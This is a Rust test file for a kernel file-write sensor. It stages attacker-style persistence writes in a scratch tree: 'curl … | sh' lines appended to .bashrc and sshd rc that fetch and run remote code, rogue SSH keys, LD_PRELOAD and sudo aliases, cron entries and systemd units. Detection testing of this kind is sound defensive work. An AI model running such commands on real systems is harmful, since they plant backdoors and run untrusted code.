//! Writes to watched paths: open for writing, truncate, unlink, rename,
//! link and symlink of watched files and directories, matched in the
//! kernel; and the ordinary writes around them, which must not be
//! reported.

use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use sensor_tests::{Sensor, action, at, pid_of};
use serde_json::Value;

/// A private tree standing in for /etc and ~/.ssh, so the test never
/// touches the host's real files.
struct Tree {
    root: sensor_tests::Scratch,
}

impl Tree {
    fn new() -> Tree {
        // Unique per test: the tests of this file run in parallel.
        let root = sensor_tests::scratch_dir("sensor-watch");
        for d in ["etc/cron.d", "home/alice/.ssh", "other"] {
            std::fs::create_dir_all(root.join(d)).expect("mkdir");
        }
        std::fs::write(root.join("etc/passwd"), b"root:x:0:0::/root:/bin/sh\n").expect("write");
        std::fs::write(root.join("etc/hostname"), b"not watched\n").expect("write");
        std::fs::write(root.join("home/alice/.ssh/authorized_keys"), b"").expect("write");
        std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        Tree { root }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.root.join(rel)
    }

    fn config(&self) -> String {
        format!(
            "[watch]\nuser_ssh_dirs = false\npaths = [\"{}\", \"{}/\", \"{}/\"]\n",
            self.path("etc/passwd").display(),
            self.path("etc/cron.d").display(),
            self.path("home/alice/.ssh").display()
        )
    }
}

/// Runs `program args` in `cwd`; its pid. Redirections are done by a
/// shell's builtins (`sh -c "echo … > f"`), in the shell's own process.
fn run(program: &str, args: &[&str], cwd: &Path) -> u64 {
    let mut child = Command::new(program)
        .args(args)
        .current_dir(cwd)
        .spawn()
        .expect("spawn");
    let pid = child.id() as u64;
    assert!(child.wait().expect("wait").success(), "{program} {args:?}");
    pid
}

fn sh(script: &str, cwd: &Path) -> u64 {
    run("sh", &["-c", script], cwd)
}

/// The events of one of `actions` reported so far for one of `paths`
/// (`file.path`).
fn reported_for(sensor: &Sensor, actions: &[&str], paths: &[PathBuf]) -> Vec<Value> {
    sensor
        .events()
        .into_iter()
        .filter(|v| actions.contains(&action(v)))
        .filter(|v| {
            paths
                .iter()
                .any(|p| at(v, "file.path").as_str() == p.to_str())
        })
        .collect()
}

/// A rename reported to `new_path`, its argument as passed, under the
/// watched path `watched`, by the path.
fn assert_renamed_by_path(ev: &Value, new_path: &Path, argument: &str, watched: &str) {
    assert_eq!(
        at(ev, "sensor.file_write.new_path").as_str(),
        new_path.to_str(),
        "{ev}"
    );
    assert_eq!(
        at(ev, "sensor.file_write.second_path_argument").as_str(),
        Some(argument),
        "{ev}"
    );
    assert_eq!(
        at(ev, "sensor.file_write.watched").as_str(),
        Some(watched),
        "{ev}"
    );
    assert_eq!(at(ev, "sensor.file_write.matched_by"), "path", "{ev}");
}

/// Perl in `cwd`, once it ran `script`, living on so that the daemon can
/// follow its cwd.
fn perl_living_on_in(cwd: &Path, script: &str) -> std::process::Child {
    let mut perl = Command::new("perl");
    perl.arg("-e")
        .arg(format!("{script} $| = 1; print \"done\\n\"; sleep 60"))
        .current_dir(cwd);
    sensor_tests::spawned_until(perl, "done")
}

fn stop(mut child: std::process::Child) {
    let _ = child.kill();
    let _ = child.wait();
}

fn write_by(v: &Value, act: &str, pid: u64) -> bool {
    action(v) == act && pid_of(v) == pid && at(v, "event.category")[0] == "file"
}

#[test]
fn writes_to_watched_paths_are_reported_and_others_are_not() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let passwd = tree.path("etc/passwd");
    let keys = tree.path("home/alice/.ssh/authorized_keys");

    // Appending a key: an open for writing of a file under a watched dir.
    let append = sh(
        &format!("echo 'ssh-ed25519 AAAA evil' >> '{}'", keys.display()),
        &tree.root,
    );
    // A new cron entry: created (O_CREAT) in a watched directory, relative path.
    let cron = sh(
        "echo '* * * * * root /tmp/x' > cron.d/evil",
        &tree.path("etc"),
    );
    // Truncating the watched file (coreutils: open, then ftruncate).
    let trunc = run(
        "truncate",
        &["-s", "0", passwd.to_str().expect("utf-8")],
        &tree.root,
    );
    // Rename into the watched directory, unlink inside it; relative paths.
    std::fs::write(tree.path("other/job"), b"x").expect("write");
    let mv = run("mv", &["other/job", "etc/cron.d/job"], &tree.root);
    let rm = run("rm", &["etc/cron.d/evil"], &tree.root);
    // Not watched: a sibling file, another directory.
    let quiet = sh(
        "echo y > etc/hostname && echo z > other/file && rm other/file",
        &tree.root,
    );
    let control = sh(&format!("echo root2 >> '{}'", passwd.display()), &tree.root);

    let ev = sensor.wait_for("append to authorized_keys", |v| {
        write_by(v, "open_write", append)
    });
    assert_eq!(at(&ev, "file.path").as_str(), keys.to_str(), "{ev}");
    assert!(
        at(&ev, "sensor.file_write.open_flags")
            .as_array()
            .is_some_and(|f| f.iter().any(|x| x == "O_APPEND"))
    );
    assert_eq!(
        at(&ev, "sensor.file_write.watched")
            .as_str()
            .map(|w| w.trim_end_matches('/')),
        tree.path("home/alice/.ssh").to_str()
    );
    assert_eq!(at(&ev, "event.outcome"), "success");

    let ev = sensor.wait_for("new cron entry", |v| write_by(v, "open_write", cron));
    assert_eq!(
        at(&ev, "file.path").as_str(),
        tree.path("etc/cron.d/evil").to_str()
    );
    assert_eq!(at(&ev, "event.type")[0], "creation");

    let ev = sensor.wait_for("truncate", |v| write_by(v, "truncate", trunc));
    assert_eq!(at(&ev, "file.path").as_str(), passwd.to_str());
    assert_eq!(
        at(&ev, "sensor.file_write.watched").as_str(),
        passwd.to_str()
    );

    let ev = sensor.wait_for("rename into the cron dir", |v| write_by(v, "rename", mv));
    assert_eq!(
        at(&ev, "sensor.file_write.new_path").as_str(),
        tree.path("etc/cron.d/job").to_str(),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "file.path").as_str(),
        tree.path("other/job").to_str()
    );

    let ev = sensor.wait_for("unlink in the cron dir", |v| write_by(v, "unlink", rm));
    assert_eq!(
        at(&ev, "file.path").as_str(),
        tree.path("etc/cron.d/evil").to_str()
    );
    assert_eq!(at(&ev, "event.type")[0], "deletion");
    assert_eq!(
        at(&ev, "sensor.file_write.path_argument"),
        "etc/cron.d/evil"
    );
    assert_eq!(at(&ev, "sensor.file_write.matched_by"), "path", "{ev}");

    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    let events = sensor.events();
    let quiet_writes: Vec<&Value> = events
        .iter()
        .filter(|v| at(v, "event.category")[0] == "file" && action(v) != "chmod")
        .filter(|v| {
            pid_of(v) == quiet
                || at(v, "file.path")
                    .as_str()
                    .is_some_and(|p| p.contains("/other/file") || p.ends_with("hostname"))
        })
        .collect();
    assert!(
        quiet_writes.is_empty(),
        "writes outside the watched paths were reported: {quiet_writes:?}"
    );
}

/// Where the kernel has plain loads, the directory a relative path
/// starts from (the cwd; a dirfd's file from the fd table embedded in
/// `files_struct`, no more than 64 fds ever open at once) and the file an
/// open returned or an ftruncate names are reached through typed pointers, and climbed with
/// plain loads; through probe reads where the table has grown, and
/// everywhere with `direct_task_reads = false`. Each way must report the
/// same writes, and nothing else. Each writer checks its own table's
/// size first (`FDSize` in its status), so each way is the one tested: a
/// process gets a grown table from a parent that had a high fd open (an
/// interactive bash holds 255), so the first writer is a grandchild of
/// this test, with what it inherited closed.
#[test]
fn writes_are_decided_alike_through_typed_pointers_and_probe_reads() {
    let tree = Tree::new();
    let direct = Sensor::start(&tree.config());
    let probe = Sensor::start(&format!(
        "{}\n[ebpf]\ndirect_task_reads = false\n",
        tree.config()
    ));
    probe.wait_for_log(
        "read with bpf_probe_read_kernel: off in the config",
        std::time::Duration::from_secs(5),
    );
    let keys = tree.path("home/alice/.ssh/authorized_keys");
    let embedded = r#"grep -q '^FDSize:[[:space:]]*64$' /proc/$$/status"#;
    // Opens for writing by the shell itself (a builtin's redirections); an
    // ftruncate (`truncate`, a child with the shell's table: open, then
    // ftruncate of the fd); a rename in the cwd (`mv`: two names relative
    // to AT_FDCWD), and a removal through a dirfd (`rm -r`: unlinkat of
    // `f` in the directory it opened).
    let writes = |name: &str| {
        format!(
            "echo quiet > other/{name}; echo job > etc/cron.d/{name}-table; \
             truncate -s 1 etc/cron.d/{name}-table; truncate -s 1 other/{name}; \
             echo key >> '{}'; mkdir etc/cron.d/{name}-dir; echo x > etc/cron.d/{name}-dir/f; \
             cd etc/cron.d && mv {name}-table {name}-moved && rm -r {name}-dir",
            keys.display()
        )
    };
    // The inner shell is a child of one with fds 0 to 2 only, and writes
    // its pid, which the outer shell does not know. (Not the outer
    // shell's last command, which dash would run in its own process.)
    let inner = format!(
        "{embedded} || exit 3; echo $$ > other/small.pid; {}",
        writes("small")
    );
    let mut outer = Command::new("sh");
    outer
        .args(["-c", "sh -c \"$0\"; exit $?", &inner])
        .current_dir(&tree.root);
    // SAFETY: close_range is async-signal-safe; nothing else runs here.
    unsafe {
        outer.pre_exec(|| {
            libc::close_range(3, u32::MAX, 0);
            Ok(())
        })
    };
    let status = outer.status().expect("spawn sh");
    assert!(status.success(), "the small table's writer: {status}");
    let small_pid: u64 = std::fs::read_to_string(tree.path("other/small.pid"))
        .expect("the inner shell wrote its pid")
        .trim()
        .parse()
        .expect("a pid");
    // Bash with fd 100 open has a grown table, and so have its children.
    let grown_pid = run(
        "bash",
        &[
            "-c",
            &format!(
                "exec 100>/dev/null; if {embedded}; then exit 3; fi; {}",
                writes("grown")
            ),
        ],
        &tree.root,
    );
    let cron = tree.path("etc/cron.d");
    for sensor in [&direct, &probe] {
        for (name, pid) in [("small", small_pid), ("grown", grown_pid)] {
            let job = cron.join(format!("{name}-table"));
            let ev = sensor.wait_for(&format!("the cron entry {}", job.display()), |v| {
                write_by(v, "open_write", pid) && at(v, "file.path").as_str() == job.to_str()
            });
            let in_cron = |ev: &Value| {
                assert_eq!(
                    at(ev, "sensor.file_write.watched")
                        .as_str()
                        .map(|w| w.trim_end_matches('/')),
                    cron.to_str(),
                    "{ev}"
                )
            };
            assert_eq!(at(&ev, "event.type")[0], "creation", "{ev}");
            in_cron(&ev);
            let ev = sensor.wait_for(&format!("the truncate of {}", job.display()), |v| {
                action(v) == "truncate" && at(v, "file.path").as_str() == job.to_str()
            });
            in_cron(&ev);
            let ev = sensor.wait_for("the appended key", |v| {
                write_by(v, "open_write", pid) && at(v, "file.path").as_str() == keys.to_str()
            });
            assert!(
                at(&ev, "sensor.file_write.open_flags")
                    .as_array()
                    .is_some_and(|f| f.iter().any(|x| x == "O_APPEND")),
                "{ev}"
            );
            let moved = cron.join(format!("{name}-moved"));
            let ev = sensor.wait_for(&format!("the rename to {}", moved.display()), |v| {
                action(v) == "rename"
                    && at(v, "sensor.file_write.new_path").as_str() == moved.to_str()
            });
            assert_eq!(at(&ev, "file.path").as_str(), job.to_str(), "{ev}");
            assert_eq!(
                at(&ev, "sensor.file_write.path_argument").as_str(),
                Some(format!("{name}-table").as_str()),
                "{ev}"
            );
            let removed = cron.join(format!("{name}-dir/f"));
            let ev = sensor.wait_for(&format!("the removal of {}", removed.display()), |v| {
                action(v) == "unlink" && at(v, "file.path").as_str() == removed.to_str()
            });
            assert_eq!(at(&ev, "sensor.file_write.path_argument"), "f", "{ev}");
        }
        let quiet = [tree.path("other/small"), tree.path("other/grown")];
        let reported = reported_for(sensor, &["open_write", "truncate"], &quiet);
        assert!(
            reported.is_empty(),
            "files outside the watched paths were reported: {reported:?}"
        );
    }
}

/// With `user_ssh_dirs`, a `.ssh` directory made after the sensor
/// started (an account an intruder added, or one that had none) is
/// watched by its name: a key appended, sshd's `rc` written from inside
/// it, a key renamed into place by relative and absolute paths, a file
/// removed there, and a whole directory renamed to `.ssh`. Directories
/// named otherwise, and a directory below `.ssh`, are not.
#[test]
fn any_directory_named_ssh_is_watched_whenever_it_was_made() {
    let tree = Tree::new();
    let config = tree
        .config()
        .replace("user_ssh_dirs = false", "user_ssh_dirs = true");
    let sensor = Sensor::start(&config);
    let root = &tree.root;
    for d in [
        "home/bob/.ssh/keys",
        "home/bob/x.ssh",
        "home/bob/notssh",
        "home/carol/.ssh",
    ] {
        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
    }
    let bob_ssh = tree.path("home/bob/.ssh");

    let append = sh(
        "echo 'ssh-ed25519 AAAA evil' >> home/bob/.ssh/authorized_keys",
        root,
    );
    let rc = sh("echo 'curl -s x | sh' > rc", &bob_ssh);
    // Through a symlink that names no `.ssh`: the file the kernel opened does.
    std::os::unix::fs::symlink(&bob_ssh, tree.path("other/link")).expect("symlink");
    let through_link = sh(
        "echo 'ssh-ed25519 BBBB evil' >> other/link/authorized_keys2",
        root,
    );
    std::fs::write(tree.path("other/k1"), b"k").expect("write");
    let mv_relative = run("mv", &["other/k1", "home/carol/.ssh/authorized_keys"], root);
    std::fs::write(tree.path("other/k2"), b"k").expect("write");
    let (k2, carol_keys2) = (
        tree.path("other/k2"),
        tree.path("home/carol/.ssh/authorized_keys2"),
    );
    let mv_absolute = run(
        "mv",
        &[
            k2.to_str().expect("utf-8"),
            carol_keys2.to_str().expect("utf-8"),
        ],
        root,
    );
    let rm_inside = run("rm", &["rc"], &bob_ssh);
    std::fs::create_dir_all(tree.path("other/prepared")).expect("mkdir");
    let dave_ssh = tree.path("home/dave/.ssh");
    std::fs::create_dir_all(tree.path("home/dave")).expect("mkdir");
    let mv_dir = run(
        "mv",
        &[
            tree.path("other/prepared").to_str().expect("utf-8"),
            dave_ssh.to_str().expect("utf-8"),
        ],
        root,
    );
    // A home whose name is not UTF-8 (an attacker picks it): the path and
    // the label that holds it come out escaped, and say so. Written by
    // this test's own process, with the bytes as they are.
    let odd_ssh = root.join(std::ffi::OsStr::from_bytes(b"home/odd\xff/.ssh"));
    std::fs::create_dir_all(&odd_ssh).expect("mkdir");
    std::fs::write(odd_ssh.join("authorized_keys"), b"k").expect("write");
    // Not watched: other names, and below a `.ssh` directory.
    let quiet = sh(
        "echo k > home/bob/x.ssh/authorized_keys && echo k > home/bob/notssh/authorized_keys \
         && echo k > home/bob/.ssh/keys/old && rm home/bob/.ssh/keys/old",
        root,
    );
    let control = sh(
        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
        root,
    );

    let text = |p: &Path| p.to_str().expect("utf-8").to_owned();
    let dir = |p: &Path| format!("{}/", p.display());
    let (bob, carol, dave) = (
        dir(&bob_ssh),
        dir(&tree.path("home/carol/.ssh")),
        dir(&dave_ssh),
    );
    let (path, new_path) = ("file.path", "sensor.file_write.new_path");
    let (watched, by) = ("sensor.file_write.watched", "sensor.file_write.matched_by");
    let expected = [
        (
            "a key appended",
            "open_write",
            append,
            vec![
                (path, text(&bob_ssh.join("authorized_keys"))),
                (watched, bob.clone()),
                (by, "name".into()),
            ],
        ),
        (
            "sshd's rc written",
            "open_write",
            rc,
            vec![(path, text(&bob_ssh.join("rc"))), (watched, bob.clone())],
        ),
        (
            "a key appended through a symlink",
            "open_write",
            through_link,
            vec![
                (path, text(&bob_ssh.join("authorized_keys2"))),
                (watched, bob.clone()),
                (by, "name".into()),
            ],
        ),
        (
            "a key renamed into place (relative)",
            "rename",
            mv_relative,
            vec![
                (
                    new_path,
                    text(&tree.path("home/carol/.ssh/authorized_keys")),
                ),
                (watched, carol.clone()),
            ],
        ),
        (
            "a key renamed into place (absolute)",
            "rename",
            mv_absolute,
            vec![(new_path, text(&carol_keys2)), (watched, carol)],
        ),
        (
            "a file removed inside",
            "unlink",
            rm_inside,
            vec![(path, text(&bob_ssh.join("rc"))), (watched, bob)],
        ),
        (
            "a directory renamed to .ssh",
            "rename",
            mv_dir,
            vec![(new_path, text(&dave_ssh)), (watched, dave)],
        ),
        ("the control append", "open_write", control, vec![]),
    ];
    expect_writes(&sensor, expected);
    let odd = sensor.wait_for("a key written under a home named in bytes", |v| {
        write_by(v, "open_write", u64::from(std::process::id()))
            && at(v, "file.path")
                .as_str()
                .is_some_and(|p| p.contains("odd"))
    });
    let bytes = |field: &str| sensor_tests::field_bytes(&odd, field, at(&odd, field));
    assert_eq!(
        bytes("file.path"),
        odd_ssh.join("authorized_keys").as_os_str().as_bytes(),
        "{odd}"
    );
    let mut label = odd_ssh.as_os_str().as_bytes().to_vec();
    label.push(b'/');
    assert_eq!(bytes("sensor.file_write.watched"), label, "{odd}");
    assert_quiet(&sensor, quiet, "writes outside .ssh directories");
}

/// With `user_unit_dirs`, a `systemd/user` directory made after the
/// sensor started (`~/.config/systemd/user/`, where any account installs
/// units systemd starts for it) is watched by its name: a unit written,
/// one written through a symlink, a drop-in overriding a unit, a unit
/// enabled by a link in a `.wants` directory, units renamed into place, a
/// drop-in removed from inside its directory, and a whole directory
/// renamed to `user` in a `systemd` one. Other names, and anything deeper
/// than a unit's own directories, are not.
#[test]
fn any_systemd_user_directory_is_watched_whenever_it_was_made() {
    let tree = Tree::new();
    let sensor = Sensor::start(&format!("{}user_unit_dirs = true\n", tree.config()));
    let root = &tree.root;
    for d in [
        "home/eve/.config/systemd/user/x.service.d",
        "home/eve/.config/systemd/user/default.target.wants",
        "home/eve/.config/systemd/user/deep/er",
        "home/eve/.config/systemd/users",
        "home/eve/.config/mysystemd/user",
        "home/frank/.config/systemd",
        "other/prep",
    ] {
        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
    }
    let units = tree.path("home/eve/.config/systemd/user");
    let dropins = units.join("x.service.d");
    let text = |p: &Path| p.to_str().expect("utf-8").to_owned();

    let unit = sh(
        "printf '[Service]\\nExecStart=/tmp/.x\\n' > home/eve/.config/systemd/user/evil.service",
        root,
    );
    let dropin = sh(
        "printf '[Service]\\nExecStartPre=/tmp/.x\\n' > override.conf",
        &dropins,
    );
    std::os::unix::fs::symlink(&units, tree.path("other/u")).expect("symlink");
    let through_link = sh("echo '[Unit]' > other/u/b.service", root);
    let enabled = run(
        "ln",
        &[
            "-s",
            "../evil.service",
            "home/eve/.config/systemd/user/default.target.wants/evil.service",
        ],
        root,
    );
    std::fs::write(tree.path("other/u1"), b"[Unit]").expect("write");
    let mv_unit = run(
        "mv",
        &[
            &text(&tree.path("other/u1")),
            &text(&units.join("c.service")),
        ],
        root,
    );
    std::fs::write(tree.path("other/u2"), b"[Service]").expect("write");
    let mv_dropin = run(
        "mv",
        &[
            &text(&tree.path("other/u2")),
            &text(&dropins.join("y.conf")),
        ],
        root,
    );
    let rm_inside = run("rm", &["override.conf"], &dropins);
    let frank = tree.path("home/frank/.config/systemd/user");
    let mv_dir = run(
        "mv",
        &[&text(&tree.path("other/prep")), &text(&frank)],
        root,
    );
    // Not watched: other names, deeper directories, a file named `user`.
    let quiet = sh(
        "echo k > home/eve/.config/systemd/users/a.service \
         && echo k > home/eve/.config/mysystemd/user/a.service \
         && echo k > home/eve/.config/systemd/user/deep/er/a.service \
         && echo k > home/eve/user",
        root,
    );
    let control = sh(
        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
        root,
    );

    let (eve, frank_dir) = (
        format!("{}/", units.display()),
        format!("{}/", frank.display()),
    );
    let (path, new_path) = ("file.path", "sensor.file_write.new_path");
    let (watched, by) = ("sensor.file_write.watched", "sensor.file_write.matched_by");
    let expected = [
        (
            "a unit written",
            "open_write",
            unit,
            vec![
                (path, text(&units.join("evil.service"))),
                (watched, eve.clone()),
                (by, "name".into()),
            ],
        ),
        (
            "a drop-in written",
            "open_write",
            dropin,
            vec![
                (path, text(&dropins.join("override.conf"))),
                (watched, eve.clone()),
                (by, "name".into()),
            ],
        ),
        (
            "a unit written through a symlink",
            "open_write",
            through_link,
            vec![
                (path, text(&units.join("b.service"))),
                (watched, eve.clone()),
                (by, "name".into()),
            ],
        ),
        (
            "a unit enabled",
            "symlink",
            enabled,
            vec![
                (path, text(&units.join("default.target.wants/evil.service"))),
                (watched, eve.clone()),
            ],
        ),
        (
            "a unit renamed into place",
            "rename",
            mv_unit,
            vec![
                (new_path, text(&units.join("c.service"))),
                (watched, eve.clone()),
            ],
        ),
        (
            "a drop-in renamed into place",
            "rename",
            mv_dropin,
            vec![
                (new_path, text(&dropins.join("y.conf"))),
                (watched, eve.clone()),
            ],
        ),
        (
            "a drop-in removed from inside",
            "unlink",
            rm_inside,
            vec![(path, text(&dropins.join("override.conf"))), (watched, eve)],
        ),
        (
            "a directory renamed to systemd/user",
            "rename",
            mv_dir,
            vec![(new_path, text(&frank)), (watched, frank_dir)],
        ),
        ("the control append", "open_write", control, vec![]),
    ];
    expect_writes(&sensor, expected);
    assert_quiet(&sensor, quiet, "writes outside systemd/user directories");
}

/// With `shell_rc_files` (on by default), a file named as a shell's
/// startup file is watched by its name, in whichever directory: written
/// in a home made after the start, written through a symlink to it,
/// created in a skeleton directory, renamed into place by absolute and
/// relative paths, linked and symlinked into place, and removed. Names
/// that only look like one are not.
#[test]
fn any_shell_startup_file_is_watched_by_its_name() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let root = &tree.root;
    for d in ["home/gina", "etc/skel"] {
        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
    }
    let home = tree.path("home/gina");
    std::fs::write(home.join(".bashrc"), b"# ~/.bashrc\n").expect("write");
    std::fs::write(home.join(".zlogin"), b"").expect("write");
    let text = |p: &Path| p.to_str().expect("utf-8").to_owned();

    let append = sh(
        "echo 'curl -s http://203.0.113.9/x | sh' >> home/gina/.bashrc",
        root,
    );
    std::os::unix::fs::symlink(home.join(".profile"), tree.path("other/p")).expect("symlink");
    let through_link = sh("echo 'export LD_PRELOAD=/tmp/.l.so' > other/p", root);
    let skel = sh("echo 'alias sudo=/tmp/.s' > etc/skel/.zshrc", root);
    std::fs::write(tree.path("other/a"), b"alias ls=/tmp/.x\n").expect("write");
    let mv_abs = run(
        "mv",
        &[
            &text(&tree.path("other/a")),
            &text(&home.join(".bash_aliases")),
        ],
        root,
    );
    std::fs::write(home.join("new"), b"x\n").expect("write");
    let mv_rel = run("mv", &["new", ".bash_logout"], &home);
    std::fs::write(tree.path("other/z"), b"x\n").expect("write");
    let hard = run(
        "ln",
        &[&text(&tree.path("other/z")), &text(&home.join(".zshenv"))],
        root,
    );
    let soft = run("ln", &["-s", "/tmp/.evil", ".bash_login"], &home);
    let rm = run("rm", &[&text(&home.join(".zlogin"))], root);
    // Not watched: names that only look like one.
    let quiet = sh(
        "echo k > .bashrc.bak && echo k > bashrc && echo k > .profile_old \
         && echo k > .zsh && echo k > .bash_profile2 && echo k > x.profile",
        &home,
    );
    let control = sh(
        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
        root,
    );

    let (path, new_path) = ("file.path", "sensor.file_write.new_path");
    let (watched, by) = ("sensor.file_write.watched", "sensor.file_write.matched_by");
    let named = |p: PathBuf| {
        vec![
            (path, text(&p)),
            (watched, text(&p)),
            (by, "name".to_owned()),
        ]
    };
    let renamed = |p: PathBuf| vec![(new_path, text(&p)), (watched, text(&p))];
    let expected = [
        (
            "an append to .bashrc",
            "open_write",
            append,
            named(home.join(".bashrc")),
        ),
        (
            ".profile written through a symlink",
            "open_write",
            through_link,
            named(home.join(".profile")),
        ),
        (
            "a skeleton .zshrc",
            "open_write",
            skel,
            named(tree.path("etc/skel/.zshrc")),
        ),
        (
            ".bash_aliases renamed into place",
            "rename",
            mv_abs,
            renamed(home.join(".bash_aliases")),
        ),
        (
            ".bash_logout renamed into place, relative",
            "rename",
            mv_rel,
            renamed(home.join(".bash_logout")),
        ),
        (
            ".zshenv hard-linked into place",
            "link",
            hard,
            vec![(path, text(&home.join(".zshenv")))],
        ),
        (
            ".bash_login symlinked into place",
            "symlink",
            soft,
            vec![(path, text(&home.join(".bash_login")))],
        ),
        (
            ".zlogin removed",
            "unlink",
            rm,
            vec![(path, text(&home.join(".zlogin")))],
        ),
        ("the control append", "open_write", control, vec![]),
    ];
    expect_writes(&sensor, expected);
    assert_quiet(
        &sensor,
        quiet,
        "files named like, but not as, startup files",
    );
}

/// A home's startup file that is a symlink, as dotfile managers make
/// `~/.bashrc -> dotfiles/bashrc`: the kernel resolves the target, whose
/// name is no startup file's, so the daemon has the target watched by
/// inode. It looks for such links in the homes of /etc/passwd at the start
/// and on each refresh.
#[test]
fn a_startup_file_symlinked_elsewhere_is_watched_through_its_target() {
    let user = sensor_tests::audit::TestUser::create();
    let home = home_of(&user.name);
    let dotfiles = home.join("dotfiles");
    std::fs::create_dir_all(&dotfiles).expect("mkdir");
    std::fs::write(dotfiles.join("bashrc"), b"# managed\n").expect("write");
    let _ = std::fs::remove_file(home.join(".bashrc"));
    std::os::unix::fs::symlink("dotfiles/bashrc", home.join(".bashrc")).expect("symlink");
    // Named as no startup file: not looked at.
    std::fs::write(dotfiles.join("notes"), b"").expect("write");
    std::os::unix::fs::symlink("dotfiles/notes", home.join(".bashrc.bak")).expect("symlink");
    let tree = Tree::new();
    let sensor = Sensor::start(&format!(
        "{}[ebpf]\ncounters_interval_ms = 200\n",
        tree.config()
    ));
    let text = |p: &Path| p.to_str().expect("utf-8").to_owned();
    let target = |name: &str| text(&std::fs::canonicalize(dotfiles.join(name)).expect("target"));

    let through_link = sh("echo 'curl -s http://203.0.113.9/x | sh' >> .bashrc", &home);
    let direct = sh("echo 'alias sudo=/tmp/.s' >> dotfiles/bashrc", &home);
    // A link made after the start is reported by its name; its target is
    // watched from the next refresh.
    std::fs::write(dotfiles.join("zshrc"), b"").expect("write");
    let soft = run("ln", &["-s", "dotfiles/zshrc", ".zshrc"], &home);
    wait_refreshed(&sensor, &home.join(".zshrc"));
    let later = sh("echo 'export PATH=/tmp/.b:$PATH' >> .zshrc", &home);
    let quiet = sh("echo x >> .bashrc.bak", &home);

    let (path, watched, by) = (
        "file.path",
        "sensor.file_write.watched",
        "sensor.file_write.matched_by",
    );
    let by_target = |name: &str, link: &str| {
        vec![
            (path, target(name)),
            (watched, text(&home.join(link))),
            (by, "inode".to_owned()),
        ]
    };
    expect_writes(
        &sensor,
        [
            (
                "an append to .bashrc, a symlink",
                "open_write",
                through_link,
                by_target("bashrc", ".bashrc"),
            ),
            (
                "an append to the link's target by its own name",
                "open_write",
                direct,
                by_target("bashrc", ".bashrc"),
            ),
            (
                ".zshrc symlinked into place",
                "symlink",
                soft,
                vec![(path, text(&home.join(".zshrc")))],
            ),
            (
                "an append to .zshrc, linked after the start",
                "open_write",
                later,
                by_target("zshrc", ".zshrc"),
            ),
        ],
    );
    assert_quiet(&sensor, quiet, "a link named as no startup file");
}

/// The files sshd_config names for keys are watched: a directory holding
/// everyone's keys, the user CA keys sshd trusts, the program it runs for
/// keys, and a principals file in a `Match` block, through an `Include`.
/// Every open for writing is reported, matched by inode.
#[test]
fn the_files_sshd_config_names_for_keys_are_watched() {
    let tree = Tree::new();
    for d in [
        "etc/ssh/sshd_config.d",
        "etc/ssh/authorized_keys",
        "etc/ssh/principals",
        "bin",
    ] {
        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
    }
    let ssh = tree.path("etc/ssh");
    let shown = |rel: &str| tree.path(rel).to_str().expect("utf-8").to_owned();
    std::fs::write(
        ssh.join("sshd_config"),
        format!(
            "Include {ssh}/sshd_config.d/*.conf\n\
             AuthorizedKeysFile .ssh/authorized_keys {ssh}/authorized_keys/%u\n\
             Match Group admins\n\
             \tAuthorizedPrincipalsFile {ssh}/principals/%u\n",
            ssh = ssh.display()
        ),
    )
    .expect("write");
    std::fs::write(
        ssh.join("sshd_config.d/10-ca.conf"),
        format!(
            "TrustedUserCAKeys {}\nAuthorizedKeysCommand {} %u\n",
            shown("etc/ssh/user_ca.pub"),
            shown("bin/keys-cmd")
        ),
    )
    .expect("write");
    std::fs::write(ssh.join("user_ca.pub"), b"ssh-ed25519 AAAA ca\n").expect("write");
    std::fs::write(tree.path("bin/keys-cmd"), b"#!/bin/sh\n").expect("write");
    let config = format!(
        "{}sshd_config = \"{}\"\n",
        tree.config(),
        ssh.join("sshd_config").display()
    );
    let sensor = Sensor::start(&config);
    let logged = sensor.stderr();
    let found = logged
        .iter()
        .find(|l| l.contains("sshd's key files watched"))
        .unwrap_or_else(|| panic!("no line on sshd's key files: {logged:?}"));
    for rel in [
        "etc/ssh/authorized_keys/",
        "etc/ssh/user_ca.pub",
        "bin/keys-cmd",
    ] {
        assert!(found.contains(&shown(rel)), "{rel}: {found}");
    }

    let root = &tree.root;
    let keys = sh(
        "echo 'ssh-ed25519 AAAA evil' >> etc/ssh/authorized_keys/bob",
        root,
    );
    let ca = sh(
        "echo 'ssh-ed25519 BBBB evil-ca' >> etc/ssh/user_ca.pub",
        root,
    );
    let cmd = sh("printf '#!/bin/sh\\necho evil\\n' > bin/keys-cmd", root);
    let principals = sh("echo root > etc/ssh/principals/admin", root);
    let quiet = sh("echo x > etc/ssh/moduli.new && echo y > bin/other", root);

    let (path, watched, by) = (
        "file.path",
        "sensor.file_write.watched",
        "sensor.file_write.matched_by",
    );
    let by_inode = |file: &str, label: &str| {
        vec![
            (path, shown(file)),
            (watched, shown(label)),
            (by, "inode".to_owned()),
        ]
    };
    expect_writes(
        &sensor,
        [
            (
                "a key added to the keys directory",
                "open_write",
                keys,
                by_inode("etc/ssh/authorized_keys/bob", "etc/ssh/authorized_keys/"),
            ),
            (
                "a CA added to TrustedUserCAKeys",
                "open_write",
                ca,
                by_inode("etc/ssh/user_ca.pub", "etc/ssh/user_ca.pub"),
            ),
            (
                "the AuthorizedKeysCommand program rewritten",
                "open_write",
                cmd,
                by_inode("bin/keys-cmd", "bin/keys-cmd"),
            ),
            (
                "a principals file made (in a Match block)",
                "open_write",
                principals,
                by_inode("etc/ssh/principals/admin", "etc/ssh/principals/"),
            ),
        ],
    );
    assert_quiet(&sensor, quiet, "files next to sshd's");
}

/// However many paths the config names (more than the 32 string slots the
/// kernel once had, which left sshd's files to the inode alone), a key
/// renamed into the keys directory is decided by its path argument, on
/// every kernel (this one has no fentry).
#[test]
